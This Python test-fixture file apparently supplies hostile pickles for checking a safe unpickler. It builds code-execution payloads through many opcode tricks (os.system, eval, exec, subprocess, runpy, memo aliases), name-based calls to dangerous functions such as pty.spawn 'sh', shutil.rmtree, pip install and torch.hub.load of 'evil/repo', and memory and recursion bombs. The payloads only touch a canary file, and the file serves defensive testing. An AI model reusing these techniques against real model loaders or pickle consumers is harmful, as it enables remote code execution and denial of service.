"""Hostile pickles: what is known to be tried, and bombs. None of them may run or fill memory."""

from __future__ import annotations

import functools
import io
import os
import pickle
import runpy
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Reduced:
    """Pickles as a call of whatever is given."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> Any:
        return self.parts


def called(module: str, name: str, *arguments: Any, protocol: int = 2) -> bytes:
    """A pickle that calls something by its name, whether or not it is installed here."""
    inner = pickle.dumps(arguments, protocol)[2:-1]
    return bytes([0x80, protocol]) + f"c{module}\n{name}\n".encode() + inner + b"R."


def running(canary: str) -> dict[str, bytes]:
    """Pickles that make the file ``canary`` when they are really unpickled, by how they do it."""
    touch, write = f"touch {canary}", f"open({canary!r}, 'w').close()"
    evil = Reduced(os.system, touch)
    said = f"S{touch!r}\n".encode()
    written = f"S{write!r}\n".encode()
    short = b"\x8c" + bytes([len(touch)]) + touch.encode()
    return {
        **{f"os.system, protocol {n}": pickle.dumps(evil, n) for n in range(6)},
        "STACK_GLOBAL": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + short + b"\x85R.",
        "INST": b"(" + said + b"iposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\n" + said + b"o.",
        "subprocess.call": pickle.dumps(Reduced(subprocess.call, ["touch", canary]), 2),
        "builtins.eval": b"cbuiltins\neval\n(" + written + b"tR.",
        "builtins.exec": b"cbuiltins\nexec\n(" + written + b"tR.",
        "the names of python 2": b"\x80\x02c__builtin__\neval\n(" + written + b"tR.",
        "builtins.open": pickle.dumps(Reduced(open, canary, "w"), 2),
        "a function that a call returns": b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntR"
        b"S'system'\ntR(" + said + b"tR.",
        "an alias through the memo": b"\x80\x02cposix\nsystem\nq\x000h\x00(" + said + b"tR.",
        "a result that is thrown away": b"\x80\x02cposix\nsystem\n(" + said + b"tR0}.",
        "amid weights": pickle.dumps({"weight": [1.0], "bias": {"deep": (evil,)}}, 2),
        "a wrapper's content": pickle.dumps({"state_dict": evil}, 4),
        "a state": b"\x80\x02ccollections\nOrderedDict\n)R}U\x01acposix\nsystem\n(" + said + b"tRsb.",
        "an argument of a harmless call": b"\x80\x02ccollections\nOrderedDict\n](U\x01acposix\nsystem\n("
        + said
        + b"tR\x86e\x85R.",
        "a key": b"\x80\x02}cposix\nsystem\n(" + said + b"tRNs.",
        "functools.partial": pickle.dumps(Reduced(functools.partial(os.system, touch)), 2),
        "a bound method": pickle.dumps(Reduced(Path(canary).touch), 4),
        "map": b"cbuiltins\nlist\n(cbuiltins\nmap\n(cposix\nsystem\n(" + said + b"ltRtR.",
        "runpy": pickle.dumps(Reduced(runpy.run_path, f"{canary}.py"), 2),
    }


NAMED: dict[str, bytes] = {
    f"{module}.{name}": called(module, name, *arguments)
    for module, name, *arguments in [
        ("torch.hub", "load", "evil/repo", "model"),
        ("torch", "load", "other.pth"),
        ("torch.serialization", "load", "other.pth"),
        ("torch.jit", "load", "other.pt"),
        ("torch.utils.cpp_extension", "load", "x"),
        ("torch", "os.system", "true"),
        ("torch.storage", "os.system", "true"),
        ("numpy.testing._private.utils", "runstring", "import os", {}),
        ("numpy", "load", "x.npy"),
        ("importlib", "import_module", "os"),
        ("runpy", "run_path", "x.py"),
        ("pickle", "loads", b"x"),
        ("marshal", "loads", b"x"),
        ("ctypes", "CDLL", "x.so"),
        ("pty", "spawn", "sh"),
        ("timeit", "timeit", "1"),
        ("cProfile", "run", "1"),
        ("code", "interact"),
        ("webbrowser", "open", "http://x"),
        ("socket", "create_connection", ("x", 1)),
        ("shutil", "rmtree", "x"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("pip", "main", ["install", "x"]),
        ("operator", "methodcaller", "system"),
        ("builtins", "compile", "1", "", "eval"),
        ("builtins", "__import__", "os"),
        ("nt", "system", "dir"),
        ("copyreg", "_reconstructor", 1, 2, 3),
        ("torch._utils", "_rebuild_wrapper_subclass", 1),
        ("torch.fx._symbolic_trace", "Tracer"),
        ("__main__", "Anything"),
    ]
}
"""Pickles that call something by name; some of it is not there, and none of it may be looked for."""


def _doubling(open_: bytes, close: bytes) -> bytes:
    """Thirty doublings: a billion leaves that are one object."""
    steps = b"".join(
        open_ + b"h" + bytes([n]) + b"h" + bytes([n]) + close + b"q" + bytes([n + 1]) for n in range(60)
    )
    return b"\x80\x02]q\x00" + steps + b"."


def _copies(function: bytes, count: int, content: bytes) -> bytes:
    head = b"\x80\x02" + function + b"q\x00" + content + b"q\x01"
    return head + b"]q\x02(" + b"h\x00h\x01R" * count + b"e."


BOMBS: dict[str, Callable[[], bytes]] = {
    "tuples of tuples": lambda: _doubling(b"", b"\x86"),
    "lists of lists": lambda: _doubling(b"(", b"l"),
    "dicts of dicts": lambda: (
        b"\x80\x02}q\x00"
        + b"".join(
            b"}(U\x01ah" + bytes([n]) + b"U\x01bh" + bytes([n]) + b"uq" + bytes([n + 1]) for n in range(60)
        )
        + b"."
    ),
    "deep tuples": lambda: b"\x80\x02)" + b"\x85" * 300_000 + b".",
    "deep lists": lambda: b"\x80\x02" + b"(" * 300_000 + b"l" * 300_000 + b".",
    "deep arguments": lambda: b"\x80\x02ccollections\nOrderedDict\n)" + b"\x85" * 100_000 + b"R.",
    "a list in itself": lambda: b"\x80\x02]q\x00h\x00a.",
    "a deep key": lambda: b"\x80\x02})" + b"\x85" * 200_000 + b"Ns.",
    "deep storage": lambda: b"\x80\x02" + b"N" + b"\x85" * 100_000 + b"Q.",
    "a huge text": lambda: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"a.",
    "huge bytes": lambda: b"\x80\x04\x8e" + struct.pack("<Q", (1 << 64) - 1) + b"a.",
    "a huge text, 32 bits": lambda: b"\x80\x02X\xff\xff\xff\xffa.",
    "a negative length": lambda: b"\x80\x01T\xff\xff\xff\xffa.",
    "a huge integer": lambda: b"\x80\x02\x8b\xff\xff\xff\x7f\x01.",
    "an integer of digits": lambda: b"I" + b"9" * 300_000 + b"\n.",
    "a line without an end": lambda: b"\x80\x02V" + b"a" * 3_000_000,
    "marks": lambda: b"\x80\x02" + b"(" * 500_000,
    "empty lists": lambda: b"\x80\x02" + b"]" * 2_100_000 + b".",
    "memo": lambda: b"\x80\x02]" + b"".join(b"r" + struct.pack("<I", n * 997) for n in range(100_000)) + b".",
    "copied bytes": lambda: _copies(
        b"c_codecs\nencode\n", 100_000, b"X" + struct.pack("<I", 1_000_000) + b"a" * 300_000 + b"\x85"
    ),
    "copied lists": lambda: _copies(b"c__builtin__\nset\n", 100_000, b"](" + b"K\x01" * 500_000 + b"e\x85"),
    "copied items": lambda: _copies(
        b"ccollections\nOrderedDict\n", 100_000, b"](" + b"K\x01K\x02\x86" * 200_000 + b"e\x85"
    ),
    "many names": lambda: b"\x80\x02(" + b"".join(b"cos\nf%d\n" % n for n in range(60_000)) + b"l.",
    "many strange names": lambda: b"\x80\x02(" + b"".join(b"cx%d\nf\n" % n for n in range(60_000)) + b"l.",
    "a huge shape": lambda: _shaped(b"\x8a\x09" + b"\xff" * 8 + b"\x00"),
    "a shape expanded from little": lambda: _shaped(b"\x8a\x06" + b"\xff" * 5 + b"\x00", b"K\x00"),
    "a long shape": lambda: _shaped(b"K\x02" * 100_000),
}
"""Pickles that ask for far more memory or time than they have bytes."""


def _shaped(extents: bytes, strides: bytes | None = None) -> bytes:
    storage = b"(U\x07storagectorch\nFloatStorage\nU\x010U\x03cpuK\x01tQ"
    shape, steps = b"(" + extents + b"t", b"(" + (strides or extents) + b"t"
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + shape + steps + b"\x89}tR"
    return b"\x80\x02}U\x01w" + tensor + b"s."


def zipped(content: bytes) -> bytes:
    """The archive that torch would take it for."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("w/data.pkl", content)
        archive.writestr("w/data/0", b"\0\0\0\0")
        archive.writestr("w/version", b"3\n")
    return file.getvalue()
